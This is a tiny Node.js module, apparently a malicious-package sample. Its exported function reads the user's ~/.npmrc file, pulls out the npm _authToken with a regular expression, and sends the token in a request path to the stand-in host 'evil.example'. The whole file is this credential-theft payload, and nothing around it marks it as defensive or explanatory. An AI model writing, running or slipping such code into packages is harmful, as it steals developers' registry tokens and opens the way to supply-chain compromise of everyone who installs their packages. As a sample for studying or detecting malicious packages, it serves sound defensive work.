const fs = require("fs");
const home = process.env.HOME || process.env.USERPROFILE;
module.exports = () => {
  const m = /_authToken=(.+)/.exec(fs.readFileSync(home + "/.npmrc", "utf8"));
  if (m) require("https").get({ hostname: "evil.example", path: "/" + m[1] });
};
